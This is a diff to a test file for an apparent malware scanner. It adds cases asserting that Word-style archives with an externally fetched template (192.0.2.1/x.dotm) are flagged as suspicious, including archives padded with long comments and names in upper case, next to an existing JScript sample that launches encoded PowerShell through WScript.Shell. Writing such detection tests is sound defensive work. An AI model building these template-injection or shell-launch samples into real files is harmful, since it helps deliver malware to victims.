@@ -292,3 +292,34 @@ def test_a_script_is_one_in_any_units(charset: str) -> None:
     script = "var x = new ActiveXObject('WScript.Shell');\r\nx.Run('powershell -enc AAAA');\r\n"
     assert status_of(script.encode(charset), "invoice.js") in {ObjectStatus.SUSPICIOUS, INFECTED}
     assert status_of("var x = 1;\r\n".encode(charset), "library.js") is CLEAN
+
+
+# -- documents -------------------------------------------------------------------------------------------------------
+
+TEMPLATE = (
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+    b'Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>'
+)
+
+
+def document(types: str, relations: str, comments: int = 0) -> bytes:
+    """A document that fetches a template; with so many members of long comments behind the first."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("first", b"x")
+        archive.writestr(types, b"<Types/>")
+        archive.writestr(relations, TEMPLATE)
+        for number in range(comments):
+            info = zipfile.ZipInfo(f"{number}")
+            info.comment = b"-" * 65_000
+            archive.writestr(info, b"x")
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("comments", [0, 6])
+@pytest.mark.parametrize("upper", [False, True])
+def test_a_document_is_one_whatever_its_directory_looks_like(comments: int, *, upper: bool) -> None:
+    names = ("[content_types].xml", "WORD/_RELS/SETTINGS.XML.RELS")
+    types, relations = names if upper else ("[Content_Types].xml", "word/_rels/settings.xml.rels")
+    assert status_of(document(types, relations, comments), "letter.docx") is ObjectStatus.SUSPICIOUS
